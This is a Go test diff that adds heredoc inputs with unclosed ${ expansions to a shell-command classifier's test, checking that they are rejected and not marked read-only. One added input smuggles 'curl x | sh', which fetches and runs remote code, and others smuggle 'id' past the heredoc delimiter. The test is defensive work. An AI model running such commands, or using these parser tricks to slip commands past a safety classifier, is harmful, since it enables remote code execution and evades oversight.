@@ -379,6 +379,11 @@ func TestLineDivergenceNotParsed(t *testing.T) {
 		"echo $(cat <<\"E\"OF\nx\nEOF)\n" + hidden,
 		"echo $(cat <<\\EOF\nx\nEOF)\n" + hidden,
 		"ls # x\\\npython3 -c 1",
+		// An unclosed ${ the parser reads on past the delimiter's line.
+		"cat <<EOF\n${x:-\nEOF\n{ touch PWN; curl x | sh\n}\nEOF",
+		"cat <<EOF\n${x#\nEOF\n{ id\n}\nEOF",
+		"cat <<-EOF\n\t${x/a/\n\tEOF\n{ id\n}\nEOF",
+		"echo x | cat <<EOF\n$x${y%%\nEOF\n{ id\n}\nEOF",
 	} {
 		c := Classify(cmd, Options{Cwd: "/home/u/proj"})
 		if c.ParseError == nil || c.ReadOnly {
